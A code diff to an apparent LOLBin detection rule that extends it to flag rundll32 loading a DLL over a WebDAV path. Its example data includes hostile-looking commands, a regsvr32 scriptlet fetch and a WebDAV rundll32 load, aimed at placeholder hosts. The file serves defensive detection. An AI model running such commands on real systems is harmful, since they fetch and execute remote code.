@@ -1,5 +1,6 @@
 import type { CommandMeaning } from '../../commands/command-meaning.js';
 import { findSignedProxy } from '../../commands/lolbin.js';
+import { remoteUrlOf } from '../../commands/remote-path.js';
 import { matchSteps } from '../evidence.js';
 import type { Rule } from '../rule.js';
 import { urlsOf } from '../url.js';
@@ -20,8 +21,10 @@ export const lolbinUrl: Rule = {
       what: 'regsvr32 with a scriptlet',
       runs: ['regsvr32 /s /n /u /i:http://files.invalid/x.sct scrobj.dll'],
     },
+    { what: 'a DLL on a WebDAV path', runs: ['rundll32 \\\\files.invalid@80\\dav\\x.dll,Go'] },
   ],
   counterExamples: [
+    { what: 'a DLL on a share of the network', runs: ['rundll32 \\\\server\\share\\x.dll,Go'] },
     { what: "the maker's page in the browser", runs: ['explorer.exe https://www.example.com/thanks'] },
     { what: 'certutil without a URL', runs: ['certutil.exe -addstore root C:\\x\\ca.cer'] },
   ],
@@ -38,7 +41,9 @@ function describe(meaning: CommandMeaning): string | undefined {
       ? meaning.tool
       : meaning.kind === 'run-script'
         ? meaning.interpreter
-        : undefined;
+        : meaning.kind === 'start-dll' && remoteUrlOf(meaning.dll) !== undefined
+          ? meaning.proxy
+          : undefined;
   if (program === undefined || BROWSERS.test(program) || findSignedProxy(program) === undefined)
     return undefined;
   return `${program} with ${url}`;
